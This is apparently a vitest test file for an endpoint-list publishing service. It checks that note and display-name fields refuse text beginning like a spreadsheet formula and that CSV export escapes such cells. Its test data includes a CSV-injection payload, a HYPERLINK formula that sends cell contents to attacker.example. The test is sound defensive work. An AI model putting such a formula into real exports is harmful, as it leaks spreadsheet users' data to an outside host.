import { randomUUID } from 'node:crypto';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { testDatabases, type TestApp } from '../../test/harness.js';
import { publishingApp, type PublishingApp } from '../../test/domainlens-publishing.js';
import { importEndpointList } from './import.js';

const kinds = await testDatabases();
const Formula = '=HYPERLINK("http://attacker.example/?"&A1,"Help")';

describe.each(kinds)('published text cannot carry a spreadsheet formula (%s)', (kind) => {
  let p: PublishingApp;
  let t: TestApp;
  beforeAll(async () => {
    p = await publishingApp(kind);
    t = p.t;
  });
  afterAll(async () => t?.close());

  it('refuses a note or a display name that begins like a formula, naming the field', async () => {
    const note = await p.post('author', 'EndpointSetChange/UpsertDraft', {
      endpointSet: {
        instance: 'Worldwide',
        governanceCategory: 'Default',
        workloadName: 'Exchange',
        isRequired: false,
        optionalFunctionality: Formula,
        fqdns: ['outlook.office.com'],
      },
      changeReason: 'Help link',
    });
    expect(note.statusCode).toBe(400);
    expect(note.json().error.details).toContainEqual({
      path: 'body.endpointSet.optionalFunctionality',
      message: 'A published text cannot begin with =, +, -, @, a tab or a line break.',
    });
    for (const name of ['@SUM(1,1)', '  +1+1', '\t=1']) {
      const workload = await p.post('council', 'Workload', {
        id: 'Teams',
        workloadChampSecurityGroup: 'teams-champs',
        workloadChampEmail: 'champ@contoso.example',
        serviceArea: 'Teams',
        serviceAreaDisplayName: name,
        propertyGroups: ['M365'],
        workloadType: 'External',
      });
      expect(workload.statusCode, name).toBe(400);
      expect(workload.json().error.details[0].path).toBe('body.serviceAreaDisplayName');
    }
    // A dash inside the text, or an ordinary first character, is fine.
    const fine = await p.post('author', 'EndpointSetChange/UpsertDraft', {
      endpointSet: {
        instance: 'Worldwide',
        governanceCategory: 'Default',
        workloadName: 'Exchange',
        isRequired: false,
        optionalFunctionality: 'Help - =HYPERLINK is text here',
        fqdns: ['outlook.office.com'],
      },
      changeReason: 'Help link',
    });
    expect(fine.statusCode, fine.body).toBe(200);
  });

  it('neutralises a formula that reached a published list by import in every CSV cell', async () => {
    // An operator imports a list written elsewhere: the writer, not the input, is the last guard.
    await importEndpointList(
      t.app.db,
      'France',
      [
        {
          id: 1,
          serviceArea: 'Common',
          serviceAreaDisplayName: '@SUM(1,1)',
          urls: ['portal.example.com'],
          tcpPorts: '443',
          expressRoute: false,
          category: 'Default',
          required: false,
          notes: Formula,
        },
      ],
      'operator',
    );
    const q = `ClientRequestId=${randomUUID()}`;
    const res = await p.raw(`/endpoints-service/endpoints/France?${q}&format=CSV`);
    expect(res.status).toBe(200);
    const [header, row] = parse(res.body) as string[][];
    const cell = (name: string) => row![header!.indexOf(name)];
    expect(cell('notes')).toBe(`'${Formula}`);
    expect(cell('serviceAreaDisplayName')).toBe(`'@SUM(1,1)`);
    expect(cell('urls')).toBe('portal.example.com');
    expect(cell('expressRoute')).toBe('false');
    // JSON keeps the text as stored: it is not a spreadsheet's input.
    const json = JSON.parse((await p.raw(`/endpoints-service/endpoints/France?${q}`)).body);
    expect(json[0].notes).toBe(Formula);
  });
});
